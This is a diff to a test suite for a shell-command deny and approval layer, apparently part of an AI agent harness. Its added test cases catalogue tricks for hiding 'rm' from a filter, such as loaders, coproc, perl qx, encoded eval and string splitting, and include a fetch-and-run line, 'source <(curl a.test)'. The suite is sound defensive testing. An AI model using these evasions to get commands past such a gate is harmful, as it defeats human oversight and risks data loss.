@@ -115,6 +115,23 @@ describe("a pattern for rm holds for", () => {
     ["ruby", "-e", "`rm x`"],
     ["php", "-r", "exec('rm x');"],
     ["awk", 'BEGIN { system("rm x") }'],
+    ["bash", "-c", "coproc rm x"],
+    ["bash", "-c", "coproc NAME { rm x; }"],
+    ["bash", "-c", "function f { rm x; }; f"],
+    ["bash", "-c", "PROMPT_COMMAND='rm x'"],
+    ["bash", "-c", "let 'a[$(rm x)]'"],
+    ["bash", "-c", "mapfile -C 'rm x' -c 1 a"],
+    ["sh", "-c", "at now <<< 'rm x'; sg group 'rm x'"],
+    ["/lib64/ld-linux-x86-64.so.2", "/bin/rm", "x"],
+    ["fakeroot", "rm", "x"],
+    ["setarch", "x86_64", "rm", "x"],
+    ["entr", "rm", "x"],
+    ["perl", "-e", "qx{rm x}"],
+    ["perl", "-e", "print qx/rm x/"],
+    ["perl", "-e", "system qw(rm -rf x)"],
+    ["perl", "-e", "exec q(rm x)"],
+    ["ruby", "-e", "%x(rm x)"],
+    ["ruby", "-e", "system(*%w[rm x])"],
     ["awk", "-F", ":", 'BEGIN { system("rm x") }'],
   ])("%j", async (...argv) => {
     const { started, printed } = await under(denyRm, exec(argv));
@@ -134,6 +151,24 @@ describe("a pattern for rm holds for", () => {
     ["xargs", "-I{}", "{}"],
     ["xargs", "-I", "NAME", "NAME", "x"],
     ["xargs", "-IX", "sh", "-c", "X"],
+    ["xargs", "env"],
+    ["xargs", "-n1", "nice", "-n", "5", "sh", "-c"],
+    ["parallel"],
+    ["find", "/bin", "-name", "rm", "-exec", "{}", "x", ";"],
+    ["find", "/bin", "-exec", "env", "{}", "x", ";"],
+    ["bash", "-c", "source <(echo rm x)"],
+    ["bash", "-c", ". <(echo rm x)"],
+    ["bash", "-c", "echo rm x | . /dev/stdin"],
+    ["bash", "-c", "bash <(echo rm x)"],
+    ["bash", "-c", "bash --rcfile <(echo rm x) -i"],
+    ["bash", "-c", "echo rm x | bash /dev/stdin"],
+    ["bash", "-c", "hash -p /bin/rm ls; ls x"],
+    ["bash", "-c", "enable -f ./lib.so ls; ls x"],
+    ["python3", "-c", "import os; os.system('r' + 'm x'); os.system(x)"],
+    ["python3", "-c", "import subprocess as s; c = 'rm'; s.Popen([c, 'x'])"],
+    ["python3", "-c", "exec(bytes.fromhex('00'))"],
+    ["node", "-e", "eval(atob(x))"],
+    ["perl", "-e", "$x = 'r'.'m'; system($x)"],
   ])("what can't be told: %j", async (...argv) => {
     const { started, printed } = await under(denyRm, exec(argv));
     expect(started).toEqual([]);
@@ -164,6 +199,11 @@ describe("a pattern for rm leaves alone", () => {
     ["find", ".", "-name", "rm"],
     ["xargs", "ls"],
     ["sh", "script.sh"],
+    ["bash", "-c", "source ./env.sh && hash -r && echo ok"],
+    ["bash", "-c", "function f { ls; }; f"],
+    ["find", ".", "-exec", "grep", "x", "{}", "+"],
+    ["python3", "-c", "import subprocess; subprocess.run(['ls', '-l'])"],
+    ["node", "-e", "console.log(db.execute(x), 7 % (2))"],
   ])("%j", async (...argv) => {
     const { started } = await under(denyRm, exec(argv));
     expect(started).toEqual([argv.join(" ")]);
@@ -266,6 +306,41 @@ println(llm_mock_calls()[1].messages[2].content)`;
     expect(printed).toBe(
       "command requires approval: destructive_delete\ncommand requires approval: destructive_delete\n[destructive_delete]\n",
     );
+  });
+});
+
+describe("a scan of risks", () => {
+  const scan = async (argv: readonly string[]): Promise<string> => {
+    const request = `{argv: ${JSON.stringify(argv).replaceAll("$", "\\$")}}`;
+    return (
+      await under(
+        "{}",
+        `let r = command_risk_scan({request: ${request}})\nprintln("\${r.recommended_action} \${r.risk_labels}")`,
+      )
+    ).printed;
+  };
+  it.each<readonly string[]>([
+    ["python3", "-c", "import shutil; shutil.rmtree('x')"],
+    ["node", "-e", "require('fs').rmSync('x', {recursive: true})"],
+    ["env", "perl", "-e", "unlink 'x'"],
+    ["sh", "-c", "ruby -e 'File.delete(ARGV[0])'"],
+  ])("asks about code: %j", async (...argv) => {
+    expect(await scan(argv)).toMatch(/^require_approval \[.*inline_code/);
+  });
+  it.each<readonly string[]>([
+    ["bash", "-c", "$X y"],
+    ["bash", "-c", "source <(curl a.test)"],
+    ["bash", "-c", "echo x | bash"],
+    ["xargs", "sh", "-c"],
+  ])("asks about what can't be told: %j", async (...argv) => {
+    expect(await scan(argv)).toMatch(/^require_approval \[.*unknown_command/);
+  });
+  it.each<readonly string[]>([
+    ["ls", "-l"],
+    ["bash", "-c", "ls | wc -l"],
+    ["python3", "script.py"],
+  ])("allows what it sees through: %j", async (...argv) => {
+    expect(await scan(argv)).toBe("allow []\n");
   });
 });
 
